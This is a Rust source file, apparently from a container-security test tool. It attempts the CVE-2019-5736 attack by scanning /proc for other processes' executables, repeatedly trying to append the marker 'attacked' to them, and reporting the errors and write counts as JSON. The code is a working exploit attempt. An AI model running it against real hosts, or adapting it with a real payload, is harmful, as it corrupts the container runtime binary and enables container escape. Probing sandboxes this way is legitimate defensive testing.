//! The attack on the runtime's program of CVE-2019-5736: whatever a process in a container finds under `/proc/PID/exe` is opened, kept, and
//! written to when it is executed no more. Not here: being let in.

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::report::errno_name;

/// Searches for so many milliseconds, then tries to write for as long again. Prints how many other programs were seen, which errors opening
/// them for writing gave, and whether one was written to.
pub(crate) fn programs(milliseconds: u64) -> Value {
    let own = fs::metadata("/proc/self/exe").map(|m| (m.dev(), m.ino())).ok();
    let time = Duration::from_millis(milliseconds);
    let mut found: BTreeMap<(u64, u64), File> = BTreeMap::new();
    let mut errors: BTreeMap<String, u64> = BTreeMap::new();
    let mut written = 0;
    let mut attack = |path: &str, errors: &mut BTreeMap<String, u64>| match OpenOptions::new().append(true).open(path) {
        Ok(mut file) => written += u32::from(file.write_all(b"attacked").is_ok()),
        Err(e) => *errors.entry(errno_name(&e)).or_default() += 1,
    };
    let end = Instant::now() + time;
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else { continue };
            let path = format!("/proc/{pid}/exe");
            let Ok(file) = File::open(&path) else { continue };
            let Ok(meta) = file.metadata() else { continue };
            let id = (meta.dev(), meta.ino());
            if Some(id) != own {
                attack(&path, &mut errors);
                found.entry(id).or_insert(file);
            }
        }
    }
    let end = Instant::now() + time;
    while Instant::now() < end && !found.is_empty() {
        for file in found.values() {
            attack(&format!("/proc/self/fd/{}", file.as_raw_fd()), &mut errors);
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    json!({ "programs": found.len(), "errors": errors, "written": written })
}
